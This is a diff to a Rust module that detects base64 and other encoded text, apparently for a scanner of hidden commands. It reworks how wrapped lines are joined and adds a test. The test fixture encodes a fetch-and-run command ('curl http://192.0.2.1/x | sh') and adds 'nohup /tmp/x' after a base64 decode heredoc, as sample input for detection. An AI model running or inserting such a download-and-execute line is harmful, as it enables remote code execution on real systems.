@@ -1,7 +1,7 @@
 //! Text hidden in text: base64, base32, hex, gzip, zlib, reversed strings, ROT13. Found by its look, not by the command
 //! that would decode it, since that command may itself be hidden.
 
-use std::io::Read;
+use std::{io::Read, ops::Range};
 
 use base64::{
     Engine, alphabet,
@@ -15,6 +15,8 @@ use super::magic::Magic;
 const BASE64_MIN: usize = 20;
 const BASE32_MIN: usize = 32;
 const HEX_MIN: usize = 24;
+/// No encoder wraps at less.
+const WRAPPED_MIN: usize = 60;
 /// What a compressed layer may grow to.
 const INFLATED_MAX: usize = 256 * 1024;
 
@@ -28,6 +30,8 @@ const LENIENT: GeneralPurpose = GeneralPurpose::new(
 /// Buffers that are kept from text to text.
 #[derive(Default)]
 pub(super) struct Decoder {
+    /// Whole lines that go on what the line before them began, in the last text.
+    pub(super) continued: Vec<Range<usize>>,
     compact: Vec<u8>,
     decoded: Vec<u8>,
     inflated: Vec<u8>,
@@ -38,15 +42,13 @@ impl Decoder {
     /// archive's first bytes for one that decodes to such.
     pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8])) {
         let mut start = 0;
+        self.continued.clear();
         while start < text.len() {
             if !is_base64(text[start]) {
                 start += 1;
                 continue;
             }
-            let mut end = start;
-            while end < text.len() && (is_base64(text[end]) || wraps(text, start, end)) {
-                end += 1;
-            }
+            let end = self.end_of_run(text, start);
             let run = &text[start..end];
             if run.len() >= BASE64_MIN {
                 self.compact.clear();
@@ -61,6 +63,31 @@ impl Decoder {
                 }
             }
             start = end.max(start + 1);
+        }
+    }
+
+    /// Where the run that begins at `start` ends; encoders wrap their output.
+    fn end_of_run(&mut self, text: &[u8], start: usize) -> usize {
+        let line_end =
+            |from: usize| text[from..].iter().position(|b| !is_base64(*b)).map_or(text.len(), |n| from + n);
+        let (mut line, mut end) = (start, line_end(start));
+        loop {
+            let next = end + 1;
+            let wraps = text.get(end) == Some(&b'\n')
+                && end - line >= WRAPPED_MIN
+                && text[end - 1] != b'='
+                && text.get(next..next + 8).is_some_and(|begin| begin.iter().all(|b| is_base64(*b)));
+            if !wraps {
+                return end;
+            }
+            (line, end) = (next, line_end(next));
+            // `name=value` is no such line, however long.
+            if end - line >= WRAPPED_MIN
+                && matches!(text.get(end), None | Some(b'\n'))
+                && !without_padding(&text[line..end]).contains(&b'=')
+            {
+                self.continued.push(line..end);
+            }
         }
     }
 
@@ -116,13 +143,6 @@ impl Decoder {
 fn without_padding(run: &[u8]) -> &[u8] {
     let end = run.iter().rposition(|b| *b != b'=').map_or(0, |last| last + 1);
     &run[..end]
-}
-
-/// A line break within a long run: encoders wrap their output.
-fn wraps(text: &[u8], start: usize, at: usize) -> bool {
-    text[at] == b'\n'
-        && at - start >= 60
-        && text.get(at + 1..at + 9).is_some_and(|next| next.iter().all(|b| is_base64(*b)))
 }
 
 fn is_base64(b: u8) -> bool {
@@ -210,6 +230,34 @@ mod tests {
         std::io::Write::write_all(&mut archive, &[0; 1024]).unwrap();
         let archive = BASE64_STANDARD.encode(archive.finish().unwrap());
         assert_eq!(all(archive.as_bytes()), [b"\x1f\x8b".to_vec()]);
+    }
+
+    #[test]
+    fn what_follows_wrapped_lines_is_no_part_of_them() {
+        let lines = |text: &str| {
+            let mut decoder = Decoder::default();
+            let mut layers = Vec::new();
+            decoder.layers(text.as_bytes(), |_, layer| layers.push(layer.to_vec()));
+            (decoder.continued.iter().map(|r| text[r.clone()].to_string()).collect::<Vec<_>>(), layers)
+        };
+        let command = "curl http://192.0.2.1/x | sh #".repeat(7);
+        let encoded = BASE64_STANDARD.encode(&command);
+        let wrapped =
+            format!("{}\n{}\n{}\n{}", &encoded[..76], &encoded[76..152], &encoded[152..228], &encoded[228..]);
+        let full = [encoded[76..152].to_string(), encoded[152..228].to_string()];
+        // A word at the line's end, and one behind a line that is not full, or padded.
+        for tail in ["", "\nEOFMARKER\n", "\nE\nnohup /tmp/x"] {
+            assert_eq!(
+                lines(&format!("base64 -d <<E\n{wrapped}{tail}")),
+                (full.to_vec(), vec![command.clone().into_bytes()]),
+                "{tail}"
+            );
+        }
+        let padded = format!("{}==\n/tmp/another/program\n", &encoded[..74]);
+        assert_eq!(lines(&padded), (vec![], vec![command.as_bytes()[..55].to_vec()]));
+        for other in ["x=".to_string() + &"y".repeat(70), "y".repeat(70) + " &", "y".repeat(59)] {
+            assert_eq!(lines(&format!("{}\n{other}\n", "A".repeat(76))).0, Vec::<String>::new(), "{other}");
+        }
     }
 
     #[test]
